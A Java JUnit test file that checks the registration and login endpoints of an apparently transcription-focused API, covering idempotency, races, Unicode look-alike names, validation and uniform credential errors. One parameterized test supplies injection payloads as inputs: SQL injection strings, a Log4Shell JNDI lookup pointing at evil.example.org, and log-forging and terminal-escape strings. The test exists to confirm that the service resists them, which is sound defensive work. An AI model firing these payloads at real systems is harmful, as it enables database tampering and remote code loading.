package io.cogniscribe.command.api;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import io.cogniscribe.command.api.Api.Answer;
import io.cogniscribe.command.api.Api.Client;
import java.util.List;
import java.util.Locale;
import java.util.UUID;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.Executors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Registration and log-in. */
final class AccountsTest extends EdgeTest {

  private static final String PASSWORD = "correct horse battery";

  @Test
  void whoHasRegisteredLogsInAtOnceAndSubmits() {
    String name = name();

    Answer registered = register(name, name + "@example.org", PASSWORD);
    assertThat(registered.status()).as(registered.body()).isEqualTo(201);
    assertThat(registered.json().path("success").asBoolean()).isTrue();
    assertThat(registered.text("message")).isNotBlank();
    assertThat(registered.text("username")).isEqualTo(name);
    assertThat(registered.header("Consistency-Token")).startsWith("auth.commands:");

    Answer loggedIn = logIn(name, PASSWORD);
    assertThat(loggedIn.status()).as(loggedIn.body()).isEqualTo(200);
    assertThat(loggedIn.text("token_type")).isEqualTo("bearer");
    assertThat(loggedIn.json().path("expires_in").asLong()).isEqualTo(24 * 3600);
    assertThat(loggedIn.id("user_id")).isEqualTo(registered.id("user_id"));
    assertThat(loggedIn.text("username")).isEqualTo(name);

    Client student = new Client(loggedIn.id("user_id"), loggedIn.text("access_token"));
    assertThat(api.post("/api/jobs", recording()).by(student).send().status()).isEqualTo(201);
  }

  @Test
  void namesAreTakenHoweverTheyAreWritten() {
    String name = name();
    register(name, name + "@example.org", PASSWORD);

    Answer sameName = register(name.toUpperCase(Locale.ROOT), mail(), PASSWORD);
    assertProblem(sameName, 409, "username_taken");
    assertThat(sameName.text("detail")).isEqualTo("Username already exists");

    Answer sameMail = register(name(), name.toUpperCase(Locale.ROOT) + "@EXAMPLE.org", PASSWORD);
    assertProblem(sameMail, 409, "email_taken");
    assertThat(sameMail.text("detail")).isEqualTo("Email already registered");
  }

  @Test
  void compatibleSpellingsOfANameAreTheSameName() {
    String name = name();
    register(name, mail(), PASSWORD);

    String fullWidth = "\uff41\uff4e\uff4e\uff41" + name.substring("anna".length());

    assertProblem(register(fullWidth, mail(), PASSWORD), 409, "username_taken");
    assertThat(logIn(fullWidth, PASSWORD).status()).isEqualTo(200);
  }

  @Test
  void aNameIsWonByOne() {
    String name = name();
    List<Answer> answers;
    try (var clients = Executors.newVirtualThreadPerTaskExecutor()) {
      List<CompletableFuture<Answer>> sent =
          IntStream.range(0, 6)
              .mapToObj(_ ->
                  CompletableFuture.supplyAsync(() -> register(name, mail(), PASSWORD), clients))
              .toList();
      answers = sent.stream().map(CompletableFuture::join).toList();
    }

    assertThat(answers.stream().map(Answer::status).sorted())
        .containsExactly(201, 409, 409, 409, 409, 409);
  }

  @Test
  void aRepeatedRegistrationIsTheSameAccountAlthoughItIsSaltedAnew() {
    String name = name();
    String body = registration(name, name + "@example.org", PASSWORD);
    String key = UUID.randomUUID().toString();

    Answer first = api.post("/api/auth/register", body).with("Idempotency-Key", key).send();
    Answer second = api.post("/api/auth/register", body).with("Idempotency-Key", key).send();
    Answer other =
        api.post("/api/auth/register", registration(name, name + "@example.org", PASSWORD + "!"))
            .with("Idempotency-Key", key)
            .send();

    assertThat(first.status()).isEqualTo(201);
    assertThat(second.status()).isEqualTo(201);
    assertThat(second.body()).isEqualTo(first.body());
    assertProblem(other, 422, "idempotency_key_reused");
  }

  @Test
  void aRegistrationThatIsRepeatedBeforeItsAnswerGetsTheSameAnswer() {
    String name = name();
    String body = registration(name, name + "@example.org", PASSWORD);
    String key = UUID.randomUUID().toString();
    List<Answer> answers;
    try (var clients = Executors.newVirtualThreadPerTaskExecutor()) {
      List<CompletableFuture<Answer>> sent =
          IntStream.range(0, 3)
              .mapToObj(_ ->
                  CompletableFuture.supplyAsync(
                      () ->
                          api.post("/api/auth/register", body).with("Idempotency-Key", key).send(),
                      clients))
              .toList();
      answers = sent.stream().map(CompletableFuture::join).toList();
    }

    assertThat(answers).extracting(Answer::status).containsOnly(201);
    assertThat(answers.stream().map(Answer::body).distinct()).hasSize(1);
  }

  @Test
  void whoDidNotWaitForHisRegistrationReadsItsOutcomeOnceHeIsSomebody() {
    String name = name();
    Answer promise =
        api.post("/api/auth/register", registration(name, mail(), PASSWORD))
            .with("Prefer", "respond-async")
            .send();
    assertThat(promise.status()).isEqualTo(202);

    await().until(() -> logIn(name, PASSWORD).status() == 200);
    Answer loggedIn = logIn(name, PASSWORD);
    Client student = new Client(loggedIn.id("user_id"), loggedIn.text("access_token"));
    Answer outcome = api.get(promise.header("Location")).by(student).send();
    assertThat(outcome.text("status")).isEqualTo("accepted");
    assertThat(outcome.id("aggregate_id")).isEqualTo(loggedIn.id("user_id"));
  }

  @Test
  void anUnknownNameAndAWrongPasswordAreToldAlike() {
    String name = name();
    register(name, mail(), PASSWORD);

    Answer wrongPassword = logIn(name, "wrong horse battery");
    Answer unknownName = logIn(name(), PASSWORD);

    for (Answer answer : List.of(wrongPassword, unknownName)) {
      assertProblem(answer, 401, "invalid_credentials");
      assertThat(answer.text("detail")).isEqualTo("Invalid username or password");
      assertThat(answer.header("WWW-Authenticate")).isEqualTo("Bearer");
    }
    assertThat(unknownName.json().propertyNames()).isEqualTo(wrongPassword.json().propertyNames());
  }

  @ParameterizedTest(name = "{0}, {1}, {2}")
  @CsvSource(
      delimiter = '|',
      value = {
        "ab            | ab@example.org      | long enough | username",
        "' ann'        | ann@example.org     | long enough | username",
        "'ann '        | ann@example.org     | long enough | username",
        "'an  na'      | ann@example.org     | long enough | username",
        "'   '         | ann@example.org     | long enough | username",
        "an\\u0007na   | ann@example.org     | long enough | username",
        "an\\u200bna   | ann@example.org     | long enough | username",
        "an\\u202ena   | ann@example.org     | long enough | username",
        "an\\u0000na   | ann@example.org     | long enough | username",
        "an\\ud800na   | ann@example.org     | long enough | username",
        "an\\u034fna   | ann@example.org     | long enough | username",
        "an\\ufe0fna   | ann@example.org     | long enough | username",
        "an\\u3164na   | ann@example.org     | long enough | username",
        "\\u1d04oco     | ann@example.org     | long enough | username",
        "p\\u0430ypal | ann@example.org     | long enough | username",
        "\\u0441\\u043e\\u0441\\u043e | ann@example.org | long enough | username",
        "anna          | anna                | long enough | email",
        "anna          | anna@localhost      | long enough | email",
        "anna          | an na@example.org   | long enough | email",
        "anna          | anna@@example.org   | long enough | email",
        "anna          | anna@.example.org   | long enough | email",
        "anna          | <anna@example.org>  | long enough | email",
        "anna          | anna@example.org\\n | long enough | email",
        "anna          | anna@example.org    | seven77     | password",
      })
  void whatIsNoNameNoAddressOrNoPasswordIsRefused(
      String username, String email, String password, String field) {
    assertInvalid(register(username, email, password), field);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "'; DROP TABLE users; --",
        "x' OR '1'='1",
        "${jndi:ldap://evil.example.org/a}",
        "a\\r\\n2026-01-01 ERROR forged",
        "a\\u001b[31mred",
      })
  void whatWouldHarmADatabaseOrALogHarmsNeither(String text) {
    String name = name();

    assertThat(register(text, mail(), PASSWORD).status()).isIn(201, 409, 422);
    assertInvalid(register(name, text, PASSWORD), "email");
    assertThat(register(name, mail(), text + "0123456789").status()).isEqualTo(201);
    assertThat(logIn(text, text).status()).isEqualTo(401);
    assertThat(logIn(name, text + "0123456789").status()).isEqualTo(200);
  }

  @Test
  void aPasswordIsRefusedThatAnybodyWouldTryOrThatContainsTheName() {
    String name = name();

    assertInvalid(register(name, mail(), "Password1"), "password");
    assertInvalid(register(name, mail(), "my " + name.toUpperCase(Locale.ROOT)), "password");
    assertInvalid(register(name, mail(), "half of \\ud800 a pair"), "password");
    assertInvalid(register(name, mail(), "a NUL \\u0000 inside"), "password");
    assertProblem(register(name, mail(), "p".repeat(10_000_000)), 413, "body_too_large");
  }

  @Test
  void aFieldGivenTwiceIsRefused() {
    String twice =
        "{\"username\": \"%s\", \"username\": \"other\", \"email\": \"%s\", \"password\": \"%s\"}"
            .formatted(name(), mail(), PASSWORD);

    assertInvalid(api.post("/api/auth/register", twice).send(), "username");
  }

  @Test
  void whatIsTooLongIsRefused() {
    assertInvalid(register("a".repeat(51), mail(), PASSWORD), "username");
    assertInvalid(register(name(), "a@" + "b.".repeat(127) + "org", PASSWORD), "email");
    assertInvalid(register(name(), mail(), "p".repeat(101)), "password");
    assertInvalid(logIn("a".repeat(51), PASSWORD), "username");
    assertInvalid(logIn(name(), "p".repeat(101)), "password");
    assertProblem(register(name(), mail(), "p".repeat(20_000)), 413, "body_too_large");
  }

  @Test
  void everyFieldIsNamedAtOnceAndUnknownOnesToo() {
    Answer answer = api.post("/api/auth/register", "{\"username\": 5, \"role\": \"x\"}").send();

    for (String field : List.of("username", "email", "password", "role")) {
      assertInvalid(answer, field);
    }
  }

  @Test
  void headersOfWritesDoNotHideALogIn() {
    String name = name();
    register(name, mail(), PASSWORD);
    Answer answer =
        api.post(
                "/api/auth/login",
                "{\"username\": \"%s\", \"password\": \"%s\"}".formatted(name, PASSWORD))
            .with("If-Match", "\"99\"")
            .with("Idempotency-Key", "k")
            .with("Prefer", "respond-async")
            .send();

    assertThat(answer.status()).isEqualTo(200);
  }

  @Test
  void aStaleTokenKeepsNobodyFromLoggingIn() {
    String name = name();
    register(name, mail(), PASSWORD);
    Answer answer =
        api.post(
                "/api/auth/login",
                "{\"username\": \"%s\", \"password\": \"%s\"}".formatted(name, PASSWORD))
            .with("Authorization", "Bearer stale")
            .send();

    assertThat(answer.status()).isEqualTo(200);
  }

  @Test
  void noAnswerRepeatsThePassword() {
    assertThat(register("ab", "no mail", "do not tell").body()).doesNotContain("do not tell");
  }

  private Answer register(String username, String email, String password) {
    return api.post("/api/auth/register", registration(username, email, password)).send();
  }

  private static String registration(String username, String email, String password) {
    return "{\"username\": \"%s\", \"email\": \"%s\", \"password\": \"%s\"}"
        .formatted(username, email, password);
  }

  private Answer logIn(String username, String password) {
    return api.post(
            "/api/auth/login",
            "{\"username\": \"%s\", \"password\": \"%s\"}".formatted(username, password))
        .send();
  }

  private static String name() {
    return "anna-" + UUID.randomUUID();
  }

  private static String mail() {
    return UUID.randomUUID() + "@example.org";
  }
}
